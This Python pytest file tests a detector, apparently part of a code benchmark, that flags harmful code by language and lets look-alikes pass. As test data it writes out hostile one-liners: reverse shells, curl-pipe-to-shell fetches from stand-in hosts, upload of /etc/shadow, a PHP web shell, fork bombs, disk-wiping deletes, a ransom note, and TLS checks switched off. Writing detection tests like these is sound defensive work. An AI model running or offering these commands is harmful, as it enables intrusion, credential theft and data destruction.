"""Code that harms is found, by language; what only resembles it is left."""

from __future__ import annotations

from random import Random

import pytest

from bench import planted
from echo_core.judging.checks import malicious, scan
from echo_core.judging.checks.case import Case
from echo_core.judging.checks.causes import Cause
from echo_core.judging.checks.harm import RULES
from echo_core.judging.checks.scan import Scan
from echo_core.judging.checks.verdict import Finding, Verdict


def judged(language: str, target: str, prefix: str = "", suffix: str = "") -> Verdict:
    """The verdict on a case."""
    return malicious.judge(Case(language, "a", prefix, target, suffix))


PLANTED = [
    (language, line)
    for lines in planted.HARM.values()
    for language, each in lines.items()
    for line in each
]


@pytest.mark.parametrize(("language", "line"), PLANTED)
def test_planted_harm_is_found(language: str, line: str) -> None:
    verdict = judged(language, f"x\n{line}\ny")
    assert (verdict.finding, verdict.cause) == (Finding.DROPPED, Cause.MALICIOUS)
    assert verdict.quality == 0.0


@pytest.mark.parametrize("injector", planted.MALICIOUS, ids=lambda injector: injector.name)
def test_an_injector_leaves_languages_that_it_does_not_know(injector: planted.Injector) -> None:
    assert injector.plant(Case("cobol", "a", "", "x", ""), Random(1)) is None


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("shellscript", ":(){ :|:& };:"),
        ("shellscript", "nc -e /bin/sh 198.51.100.7 99"),
        ("shellscript", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 99"),
        ("shellscript", 'bash -c "$(curl -fsSL https://x.example/i)"'),
        ("shellscript", "echo aGk= | base64 -d | bash"),
        ("shellscript", "curl -F f=@/etc/shadow https://x.example"),
        ("shellscript", "* * * * * curl -s http://x.example/c | sh"),
        ("bat", "%0|%0"),
        ("bat", "del /f /s /q C:\\*"),
        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://x.example')"),
        ("php", "eval(base64_decode($x));"),
        ("php", "system($_GET['c']);"),
        ("ruby", 's = TCPSocket.new("h", 99); exec "/bin/sh"'),
        ("javascript", "eval(function(p,a,c,k,e,d){})"),
        ("javascript", "var _0x1a2b = ['\\x61\\x62', 'b', 'c', 'd'];"),
        ("plaintext", "All your files have been encrypted! Send 1 bitcoin."),
    ],
)
def test_other_harm(language: str, line: str) -> None:
    assert judged(language, line).cause is Cause.MALICIOUS


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("shellscript", "rm -rf ./build /tmp/x node_modules"),
        ("shellscript", 'rm -rf "$BUILD_DIR"/* /var/lib/app/cache'),
        ("shellscript", "curl -sO https://x.example/file.tar.gz && tar xf file.tar.gz"),
        ("shellscript", "curl https://x.example/a.json | jq ."),
        ("shellscript", "nc -z localhost 5432"),
        ("python", "exec(compile(source, path, 'exec'))"),
        ("python", "base64.b64decode(data)"),
        ("python", "shutil.rmtree(tmp_path)"),
        ("python", "subprocess.run(['git', 'fetch'], check=True)"),
        ("python", "requests.post(url, json={'home': os.environ['HOME']})"),
        ("python", "pid = os.fork()"),
        ("javascript", "setTimeout(() => decode(atob(x)), 10)"),
        ("javascript", "fs.rmSync(dir, { recursive: true })"),
        ("go", 'conn, err := net.Dial("tcp", addr)'),
        ("go", 'os.RemoveAll(filepath.Join("/", dir))'),
        ("c", "dup2(pipefd[1], STDOUT_FILENO);"),
        ("rust", 'Command::new("git").arg("status")'),
    ],
)
def test_what_only_resembles_harm(language: str, line: str) -> None:
    assert judged(language, line).finding is Finding.PASSED


def test_harm_over_the_edge_drops_and_harm_beside_marks() -> None:
    over = judged("shellscript", "http://x.example/i | sh\n", prefix="curl -s ")
    assert (over.finding, over.spans) == (Finding.DROPPED, ((0, 31),))
    beside = judged("shellscript", "echo done\n", prefix="curl http://x.example/i | sh\n")
    assert (beside.finding, beside.cause) == (Finding.MARKED, Cause.MALICIOUS)
    assert 0.0 < beside.quality < 1.0


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("python", "requests.get(u, verify=False)"),
        ("python", "subprocess.run(c, shell=True)"),
        ("go", "&tls.Config{InsecureSkipVerify: true}"),
        ("javascript", "new Agent({ rejectUnauthorized: false })"),
        ("shellscript", "curl -k https://x.example"),
        ("c", "chmod(path, 0777);"),
    ],
)
def test_a_protection_that_is_switched_off_is_marked_in_the_target_alone(
    language: str, line: str
) -> None:
    verdict = judged(language, line)
    assert (verdict.finding, verdict.cause) == (Finding.MARKED, Cause.UNPROTECTED)
    assert judged(language, "x\n", suffix=line).finding is Finding.PASSED


def test_what_is_too_long_or_too_dear_is_dropped(monkeypatch: pytest.MonkeyPatch) -> None:
    assert judged("c", "x" * (scan.CASE_CHARS_MAX + 1)).cause is Cause.TOO_LARGE

    def late(*_: object) -> None:
        raise TimeoutError

    monkeypatch.setattr(Scan, "each", late)
    assert judged("shellscript", "rm -rf /").cause is Cause.CRASHED


def test_a_place_is_looked_at_once() -> None:
    line = "rm -rf /\n"
    verdict = judged("shellscript", line * 3)
    assert len(verdict.spans) == 3


def test_every_rule_has_a_name_of_its_own_and_words_in_lower_case() -> None:
    assert len({rule.name for rule in RULES}) == len(RULES)
    assert all(word == word.lower() for rule in RULES for word in rule.words)
